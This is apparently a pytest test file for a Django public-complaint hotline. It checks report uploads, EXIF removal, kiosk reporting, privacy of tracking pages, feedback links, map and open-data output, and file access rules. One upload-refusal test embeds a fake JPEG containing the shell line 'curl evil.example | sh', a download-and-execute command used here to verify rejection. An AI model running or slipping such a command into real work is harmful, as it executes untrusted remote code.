"""The hotline's public pages: report, receipt, follow, feedback, map, figures, open data, files."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from guichet.hotline import services
from guichet.hotline.models import Attachment, Request, WorkOrder

from .world import LAT, LON, photo, video

REPORT_URL = "/hotline/"
SECRET = "the broken pipe behind 12 Secret Lane floods my cellar"


def form(**fields) -> dict:
    data = {"kind": "report", "category": "noise", "title": "Loud works at night"}
    data.update(fields)
    return data


def jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Phone 15"  # Model
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (31.0, 13.0, 49.8)
    gps[3], gps[4] = "E", (121.0, 26.0, 25.8)
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def stored_files(path: str = "") -> set[str]:
    storage = storages["documents"]
    try:
        folders, names = storage.listdir(path)
    except FileNotFoundError:
        return set()
    found = {f"{path}/{name}".lstrip("/") for name in names}
    for folder in folders:
        found |= stored_files(f"{path}/{folder}".lstrip("/"))
    return found


def logged_in(user) -> Client:
    """A citizen's own browser (citizens log in without a second factor)."""
    client = Client()
    client.force_login(user)
    return client


def reported(world, *, reporter=None, **fields) -> Request:
    values = {
        "channel": "web",
        "kind": "report",
        "title": "Noise from the building site",
        "description": SECRET,
        "category": world.noise,
        "lat": LAT,
        "lon": LON,
        "name": "Li Wei",
        "phone": "+8613912345678",
        "email": "li.wei@example.org",
        "reporter": reporter,
    }
    values.update(fields)
    return services.report(**values)


def replied(world, request: Request) -> Request:
    order = request.orders.get()
    handler = order.worker or world.housing_reviewer
    services.reply_order(order, by=handler, reply="The works now stop at 22:00.")
    request.refresh_from_db()
    assert request.state == Request.State.REPLIED
    return request


# --- Reporting --------------------------------------------------------------------------------


def test_the_report_form_needs_no_account_and_offers_location_and_files(client, hotline_world):
    page = client.get(REPORT_URL)

    assert page.status_code == 200
    html = page.content.decode()
    assert 'accept="image/jpeg,image/png,image/webp,video/mp4,video/quicktime,video/webm"' in html
    assert 'capture="environment"' in html and "multiple" in html
    assert 'name="lat"' in html and "data-geo-button" in html
    assert "csrfmiddlewaretoken" in html
    assert "Noise" in html and "I don&#x27;t know" in html
    assert "Financing for companies" not in html  # not reportable by the public


def test_a_web_report_with_a_photo_is_stored_without_exif(client, hotline_world):
    upload = SimpleUploadedFile("street.jpg", jpeg_with_exif(), content_type="image/jpeg")

    page = client.post(REPORT_URL, form(files=[upload], lat=LAT, lon=LON), follow=True)

    created = Request.objects.get()
    assert created.channel == "web" and created.category == hotline_world.noise
    assert created.district == "Jing'an"
    assert created.number in page.content.decode()
    assert reverse("hotline:track", args=[created.number]) in page.content.decode()
    attachment = created.attachments.get()
    with storages["documents"].open(attachment.stored_name, "rb") as stored:
        kept = stored.read()
    assert not Image.open(io.BytesIO(kept)).getexif()
    assert b"Exif" not in kept and b"PhoneMaker" not in kept
    assert attachment.thumbnail_name


def test_a_script_renamed_jpg_is_refused_and_nothing_is_stored(client, hotline_world):
    before = stored_files()
    script = SimpleUploadedFile(
        "photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/jpeg"
    )

    page = client.post(REPORT_URL, form(files=[script]))

    html = page.content.decode()
    assert page.status_code == 200
    assert "photo.jpg" in html and "This type of file is not accepted" in html
    assert "choose them again" in html
    assert Request.objects.count() == 0 and Attachment.objects.count() == 0
    assert stored_files() == before
    assert 'value="Loud works at night"' in html  # what was typed stays


def test_an_oversized_video_is_refused_naming_the_limit(client, hotline_world, settings):
    settings.GUICHET_HOTLINE_VIDEO_MB = 1
    before = stored_files()

    page = client.post(REPORT_URL, form(files=[video(extra=1024 * 1024 + 10)]))

    assert "at most 1 MB" in page.content.decode()
    assert Request.objects.count() == 0
    assert stored_files() == before


def test_a_category_question_must_be_answered(client, hotline_world):
    page = client.post(REPORT_URL, form(category="road-damage"))

    assert "Please answer: How big is it?" in page.content.decode()
    assert Request.objects.count() == 0

    client.post(REPORT_URL, form(category="road-damage", **{"attr-road-damage-size": "large"}))
    assert Request.objects.get().attributes == {"size": "large"}


def test_a_logged_in_reporter_is_prefilled_and_linked(hotline_world):
    citizen = hotline_world.citizen
    client = logged_in(citizen)

    assert "+8613900000007" in client.get(REPORT_URL).content.decode()
    client.post(REPORT_URL, form(phone=citizen.phone, anonymous="on"))

    created = Request.objects.get()
    assert created.reporter == citizen and created.anonymous
    listing = client.get(reverse("hotline:mine")).content.decode()
    assert created.number in listing


def test_my_requests_needs_a_login(client, hotline_world):
    response = client.get(reverse("hotline:mine"))

    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_too_many_reports_from_one_address_get_a_429_page(client, hotline_world, settings):
    settings.GUICHET_HOTLINE_REPORT_RATE = "2/h"
    for _ in range(2):
        assert client.post(REPORT_URL, form(), follow=True).status_code == 200

    page = client.post(REPORT_URL, form())

    assert page.status_code == 429
    assert "Too many requests" in page.content.decode()
    assert int(page["Retry-After"]) > 0
    assert Request.objects.count() == 2


def test_a_business_question_goes_to_the_desk(client, hotline_world):
    client.post(
        REPORT_URL,
        form(
            kind="consultation",
            category="",
            title="Loans for a small restaurant?",
            desk="financing",
            company_name="Noodle House",
            company_code="91310106ma1fy5xk2j",
            industry="catering",
        ),
    )

    created = Request.objects.get()
    assert created.desk == "financing" and created.company_code == "91310106MA1FY5XK2J"


# --- The kiosk --------------------------------------------------------------------------------


@pytest.fixture
def kiosk_centre(db):
    from guichet.centres.models import Centre

    return Centre.objects.create(code="JA", name={"en": "Jing'an Centre"}, kind="district")


def test_the_kiosk_reports_without_files_or_session(client, hotline_world, kiosk_centre):
    start = client.get(reverse("kiosk:start", args=["JA"])).content.decode()
    assert reverse("hotline:kiosk_report", args=["JA"]) in start

    url = reverse("hotline:kiosk_report", args=["JA"])
    page = client.get(url)
    assert page.status_code == 200
    assert "no-store" in page["Cache-Control"]
    assert 'type="file"' not in page.content.decode()
    assert "data-idle-seconds" in page.content.decode()

    receipt = client.post(url, form(phone="+8613911112222"), follow=True)

    created = Request.objects.get()
    assert created.channel == "kiosk" and created.reporter is None
    assert created.number in receipt.content.decode()
    assert "no-store" in receipt["Cache-Control"]
    assert "sessionid" not in client.cookies


def test_an_unknown_kiosk_is_not_found(client, hotline_world):
    assert client.get(reverse("hotline:kiosk_report", args=["NOPE"])).status_code == 404


# --- Following a request ------------------------------------------------------------------------


def test_the_public_sees_state_and_area_but_no_text(client, hotline_world):
    created = reported(hotline_world, reporter=hotline_world.citizen)

    html = client.get(reverse("hotline:track", args=[created.number])).content.decode()

    assert created.number in html and "Noise" in html and "Jing&#x27;an" in html
    assert "Open" in html
    for private in (SECRET, "Noise from the building site", "Li Wei", "13912345678", "li.wei"):
        assert private not in html


def test_the_reporter_sees_everything_of_their_own_request(hotline_world):
    created = reported(hotline_world, reporter=hotline_world.citizen)
    replied(hotline_world, created)

    html = logged_in(hotline_world.citizen).get(reverse("hotline:track", args=[created.number]))
    html = html.content.decode()

    assert SECRET in html and "The works now stop at 22:00." in html
    assert "/hotline/feedback/" in html  # the link to say whether it is solved
    assert "Received" in html


def test_another_citizen_sees_only_the_public_view(hotline_world, make_user):
    created = reported(hotline_world, reporter=hotline_world.citizen)

    html = logged_in(make_user()).get(reverse("hotline:track", args=[created.number]))

    assert SECRET not in html.content.decode()


def test_the_call_centre_sees_the_full_page(hotline_world, login_client):
    created = reported(hotline_world)

    html = login_client(hotline_world.operator).get(reverse("hotline:track", args=[created.number]))

    assert SECRET in html.content.decode()


def test_an_unknown_number_is_not_found(client, hotline_world):
    assert client.get(reverse("hotline:track", args=["12345-20000101-00001"])).status_code == 404


# --- Feedback ---------------------------------------------------------------------------------


def test_a_happy_answer_closes_the_request(client, hotline_world):
    created = replied(hotline_world, reported(hotline_world))
    url = reverse("hotline:feedback", args=[services.feedback_token(created)])

    assert "How did it go?" in client.get(url).content.decode()
    page = client.post(url, {"rating": "5", "resolved": "yes", "comment": "Quiet now"}, follow=True)

    created.refresh_from_db()
    assert created.state == Request.State.CLOSED
    assert "Thank you for your answer" in page.content.decode()
    assert "is closed" in page.content.decode()
    again = client.get(url).content.decode()
    assert "not waiting for your opinion" in again


def test_an_unhappy_answer_reopens_the_request(client, hotline_world):
    created = replied(hotline_world, reported(hotline_world))
    url = reverse("hotline:feedback", args=[services.feedback_token(created)])

    page = client.post(url, {"rating": "1", "resolved": "no", "comment": "Still loud"}, follow=True)

    created.refresh_from_db()
    assert created.state == Request.State.IN_PROGRESS
    assert created.orders.get().state == WorkOrder.State.ACCEPTED
    assert "open again" in page.content.decode()


def test_the_business_desk_asks_whether_the_advice_was_useful(client, hotline_world):
    created = replied(hotline_world, reported(hotline_world, desk="financing"))
    url = reverse("hotline:feedback", args=[services.feedback_token(created)])

    assert "advice useful" in client.get(url).content.decode()
    client.post(url, {"rating": "4", "resolved": "yes", "useful": "yes"})

    assert created.feedback.get().useful is True


def test_a_forged_feedback_link_gets_a_readable_400(client, hotline_world):
    page = client.get(reverse("hotline:feedback", args=["not-a-real-token"]))

    assert page.status_code == 400
    assert "not valid or has expired" in page.content.decode()


def test_a_rating_is_required(client, hotline_world):
    created = replied(hotline_world, reported(hotline_world))
    url = reverse("hotline:feedback", args=[services.feedback_token(created)])

    page = client.post(url, {"resolved": "yes"})

    assert "Give a mark from 1 to 5." in page.content.decode()
    created.refresh_from_db()
    assert created.state == Request.State.REPLIED


# --- Map, figures and open data -----------------------------------------------------------------

PERSONAL = (SECRET, "Noise from the building site", "Li Wei", "13912345678", "li.wei@example.org")


def test_the_map_shows_areas_and_rounded_points_without_personal_data(client, hotline_world):
    reported(hotline_world)
    reported(hotline_world, lat=None, lon=None, address="Somewhere")

    page = client.get(reverse("hotline:map"))

    html = page.content.decode()
    assert page.status_code == 200
    assert "<svg" in html and 'class="map-cell shade-' in html and "map-point" in html
    assert "Jing&#x27;an" in html and "<td>2</td>" in html  # district table
    assert str(LAT) not in html  # only rounded positions
    for private in PERSONAL:
        assert private not in html


def test_the_map_filters_by_category(client, hotline_world):
    reported(hotline_world)

    html = client.get(reverse("hotline:map"), {"category": "road-damage"}).content.decode()

    assert "map-point" not in html
    assert client.get(reverse("hotline:map"), {"category": "nope"}).status_code == 400


def test_the_geojson_has_rounded_points_and_no_personal_data(client, hotline_world):
    created = reported(hotline_world)

    response = client.get(reverse("hotline:map"), {"format": "geojson"})

    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    (feature,) = data["features"]
    assert feature["geometry"]["coordinates"] == [round(LON, 3), round(LAT, 3)]
    assert feature["properties"]["number"] == created.number
    assert feature["properties"]["category"] == "noise"
    for private in PERSONAL:
        assert private not in response.content.decode()


def test_open_data_csv_streams_public_fields_only(client, hotline_world):
    created = reported(hotline_world)

    response = client.get(reverse("hotline:open_data"))

    content = b"".join(response.streaming_content).decode("utf-8")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(content.lstrip("\ufeff"))))
    assert [row["number"] for row in rows] == [created.number]
    assert rows[0]["district"] == "Jing'an" and rows[0]["lat"] == str(round(LAT, 3))
    for private in PERSONAL:
        assert private not in content


@pytest.mark.parametrize(
    "query", [{"start": "yesterday"}, {"start": "2026-05-01", "end": "2026-01-01"}]
)
def test_open_data_refuses_bad_dates_readably(client, hotline_world, query):
    response = client.get(reverse("hotline:open_data"), query)

    assert response.status_code == 400
    assert "These dates cannot be used" in response.content.decode()


def test_the_figures_add_up(client, hotline_world):
    for _ in range(2):
        reported(hotline_world)
    reported(hotline_world, category=hotline_world.pothole, attributes={"size": "small"})
    reported(hotline_world, lat=None, lon=None)

    page = client.get(reverse("hotline:stats"))

    html = page.content.decode()
    assert page.status_code == 200
    assert '<dd class="hotline-total">4</dd>' in html
    assert "<td>Jing&#x27;an</td><td>3</td>" in html
    assert "<td>Noise</td><td>3</td>" in html and "<td>Road damage</td><td>1</td>" in html
    assert "hotline-chart" in html
    weeks = re.findall(r"<td>\d{4}-W\d{2}</td><td>(\d+)</td>", html)
    assert len(weeks) >= 12 and sum(map(int, weeks)) == 4  # the last 12 weeks, quiet ones too
    for private in PERSONAL:
        assert private not in html


def test_the_figures_refuse_a_backwards_period(client, hotline_world):
    page = client.get(reverse("hotline:stats"), {"start": "2026-05-01", "end": "2026-01-01"})

    assert page.status_code == 400
    assert "The start date must come before the end date." in page.content.decode()


# --- Files ------------------------------------------------------------------------------------


def test_files_are_for_the_reporter_not_for_other_citizens(client, hotline_world, make_user):
    created = reported(hotline_world, reporter=hotline_world.citizen, files=[photo(), video()])
    picture, clip = created.attachments.order_by("id")

    for outsider in (client, logged_in(make_user())):
        assert outsider.get(reverse("hotline:attachment", args=[picture.pk])).status_code == 404
        assert outsider.get(reverse("hotline:thumbnail", args=[picture.pk])).status_code == 404

    reporter = logged_in(hotline_world.citizen)
    thumbnail = reporter.get(reverse("hotline:thumbnail", args=[picture.pk]))
    assert thumbnail.status_code == 200 and thumbnail["Content-Type"] == "image/jpeg"
    with storages["documents"].open(clip.stored_name, "rb") as stored:
        whole = stored.read()

    part = reporter.get(reverse("hotline:attachment", args=[clip.pk]), HTTP_RANGE="bytes=4-11")

    assert part.status_code == 206
    assert part["Content-Range"] == f"bytes 4-11/{len(whole)}"
    assert b"".join(part.streaming_content) == whole[4:12] == b"ftypisom"
    assert part["Content-Security-Policy"] == "sandbox"
    assert part["Accept-Ranges"] == "bytes"


def test_the_department_handling_it_may_open_its_files(hotline_world, login_client):
    created = reported(hotline_world, files=[photo()])
    picture = created.attachments.get()

    response = login_client(hotline_world.housing_reviewer).get(
        reverse("hotline:attachment", args=[picture.pk])
    )

    assert response.status_code == 200
    assert b"".join(response.streaming_content)[:2] == b"\xff\xd8"
